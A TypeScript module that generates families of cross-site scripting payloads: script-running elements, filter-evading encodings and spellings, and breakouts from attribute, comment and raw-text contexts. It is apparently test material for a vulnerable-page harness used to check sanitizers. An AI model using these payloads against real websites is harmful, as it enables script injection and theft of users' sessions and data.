import {
  asMarkup,
  type UnsafeTemplate,
  inComment,
  inDoubleQuotes,
  inElement,
  inSingleQuotes,
  inStyle,
  unquoted,
} from './vulnerable-page'

/** A text that runs `call` if it is interpreted; `site` is an address that only payloads request. */
export type PayloadTemplate = {
  family: string
  template: UnsafeTemplate
  text: (call: string, site: string) => string
}

const family = (
  name: string,
  template: UnsafeTemplate,
  texts: PayloadTemplate['text'][],
): PayloadTemplate[] => texts.map((text) => ({ family: name, template, text }))

const image = (call: string) => `<img src=x onerror=${call}>`
const dot = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7'

/** Elements that run code when parsed, or on an event. */
const elements = family('element', asMarkup, [
  (call) => `<script>${call}</script>`,
  image,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><script href="data:text/javascript,${call}"></script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><set onbegin=${call} attributeName=x to=1>`,
  (call) => `<svg><a href="javascript:${call}"><text y=9>x</text></a></svg>`,
  (call) => `<svg><foreignObject>${image(call)}</foreignObject></svg>`,
  (call) => `<body onload=${call}>`,
  (call) => `<body onpageshow=${call}>`,
  (call) => `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  (call) => `<iframe srcdoc="&lt;img src=x onerror=${call}&gt;"></iframe>`,
  (call) => `<iframe src="javascript:${call}"></iframe>`,
  (call) => `<iframe src="data:text/html,<script>${call}</script>"></iframe>`,
  (call) => `<iframe onload=${call}></iframe>`,
  (call) => `<object data="data:text/html,<script>${call}</script>"></object>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<object data=x onerror=${call}></object>`,
  (call) => `<embed src="data:text/html,<script>${call}</script>">`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<video src=x onerror=${call}></video>`,
  (call) => `<video><source src=x onerror=${call}></video>`,
  (call) => `<audio src=x onerror=${call}></audio>`,
  (call) => `<details open ontoggle=${call}><summary>x</summary></details>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<select autofocus onfocus=${call}></select>`,
  (call) => `<textarea autofocus onfocus=${call}></textarea>`,
  (call) => `<x contenteditable tabindex=1 onfocus=${call}>x</x>`,
  (call) => `<marquee onclick=${call}>x</marquee>`,
  (call) => `<style onload=${call}></style>`,
  (call) => `<link rel=stylesheet href="data:text/css," onload=${call}>`,
  (call) => `<img src="${dot}" onload=${call}>`,
  (call) => `<input type=image src="${dot}" onload=${call}>`,
  (call) => `<style>@keyframes k{}</style><x style="animation-name:k" onanimationstart=${call}></x>`,
  (call) => `<p oncontentvisibilityautostatechange=${call} style="content-visibility:auto">x</p>`,
  (call) => `<div><template shadowrootmode=open>${image(call)}</template></div>`,
  (call) => `<form action="javascript:${call}"><button>x</button></form>`,
  (call) => `<form><button formaction="javascript:${call}">x</button></form>`,
  (call) => `<form><input type=submit formaction="javascript:${call}" value=x></form>`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `<button onclick=${call}>x</button>`,
  (call) => `<div onmouseover=${call}>x</div>`,
  (call) => `<p onpointerenter=${call}>x</p>`,
  (call) => `<map name=m><area shape=default href="javascript:${call}"></map><img usemap=#m src="${dot}">`,
  (call) => `<math><mtext href="javascript:${call}">x</mtext></math>`,
  (call) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${call}</script>">`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<noscript><p title="</noscript>${image(call)}">`,
  (call) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">${image(call)}`,
  (call) => `<svg></p><style><a id="</style>${image(call)}">`,
  (call) => `<xmp><p title="</xmp>${image(call)}">`,
  (call) => `<table background="javascript:${call}"><td>${image(call)}</table>`,
  (call) => `<dialog open onclick=${call}>x</dialog>`,
  (call) => `<track src=x onerror=${call}>${image(call)}`,
  (call) => `<a id=x tabindex=1 onfocusin=${call}>x</a>`,
])

/** One attack in every spelling that filters overlook. */
const spellings = family('spelling', asMarkup, [
  (call) => `<img/src="x"/onerror=${call}>`,
  (call) => `<IMG SRC=x oNeRRoR=${call}>`,
  (call) => `<img\tsrc=x\tonerror\t=\t${call}>`,
  (call) => `<img\nsrc=x\nonerror="\n${call}">`,
  (call) => `<img\fsrc=x\fonerror=${call}>`,
  (call) => `<img src=x onerror='${call}'>`,
  (call) => `<img src=x onerror=\`\`;${call}>`,
  (call) => `<img src=x onerror=${call}//`,
  (call) => `<img src=x:x onerror=${call} <b>`,
  (call) => `<<img src=x onerror=${call}>>`,
  (call) => `<img src=x title=">" onerror=${call}>`,
  (call) => `<img """><script>${call}</script>">`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt><script>${call}</script>`,
  (call) => `<ScRiPt>${call}</sCrIpT >`,
  (call) => `<script\n>${call}</script\t>`,
  (call) => `<script/x>${call}</script/x>`,
  (call) => `<script type=module>${call}</script>`,
  (call) => `<script><!--\n${call}\n--></script>`,
  (call) => `<img src=x onerror="${[...call].map((letter) => `&#${letter.codePointAt(0)};`).join('')}">`,
  (call) =>
    `<img src=x onerror=${[...call].map((letter) => `&#x${letter.codePointAt(0)?.toString(16)}`).join(';')};>`,
  (call) => `<img src=x onerror=${call.replace('(', '&lpar;').replace(')', '&rpar;')}>`,
  (call) => `<img src=x onerror="\\u00${call.codePointAt(0)?.toString(16)}${call.slice(1)}">`,
  (call) => `<img src=x onerror=eval(atob('${btoa(call)}'))>`,
  (call) =>
    `<img src=x onerror=eval(String.fromCharCode(${[...call].map((letter) => letter.codePointAt(0)).join()}))>`,
  (call) => `<img src=x onerror=Function('${call}')()>`,
  (call) => `<img src=x onerror=setTimeout('${call}')>`,
  (call) => `<img src=x onerror="import('data:text/javascript,${call}')">`,
  (call) => `<img src=x onerror=location='javascript:${call}'>`,
  (call) => `<img src=x onerror="window['${call.slice(0, 2)}'+'${call.slice(2).replace('(', "'](")}">`,
  (call) => `<img src=x onerror=${call.replace('(', '`').replace(')', '`')}>`,
  (call) => `<img src=x onerror="[1].map(()=>${call})">`,
  (call) => `<img src=x onerror="window.onerror=()=>${call};throw 1">`,
  (call) => `<img src=x onerror=self.top.${call}>`,
  (call) => `<svg/onload=&Tab;${call}>`,
  (call) => `<svg onload\r\n=\r\n${call}>`,
])

const ends: [string, UnsafeTemplate][] = [
  ['">', inDoubleQuotes],
  ["'>", inSingleQuotes],
  ['>', unquoted],
  ['</textarea>', inElement('textarea')],
  ['</title>', inElement('title')],
  ['</script>', inElement('script')],
  ['</style>', inStyle],
  ['</noscript>', inElement('noscript')],
  ['</iframe>', inElement('iframe')],
  ['</xmp>', inElement('xmp')],
  ['</template>', inElement('template')],
  ['</select></option>', inElement('select')],
  ['</svg></math>', inElement('svg')],
  ['-->', inComment],
  ['--!>', inComment],
]
const inside: PayloadTemplate['text'][] = [
  image,
  (call) => `<script>${call}</script>`,
  (call) => `<svg/onload=${call}>`,
  (call) => `<iframe srcdoc="<script>${call}</script>">`,
  (call) => `<a href=javascript:${call}>x</a>`,
  (call) => `<details/open/ontoggle=${call}>`,
  (call) => `<input onfocus=${call} autofocus>`,
]
/** Breaks out of every context that text can be in, then adds one of several elements. */
const breakouts = ends.flatMap(([end, template]) =>
  inside.map((text): PayloadTemplate => ({
    family: 'breakout',
    template,
    text: (call, site) => end + text(call, site),
  })),
)

export const markup = [...elements, ...spellings, ...breakouts]
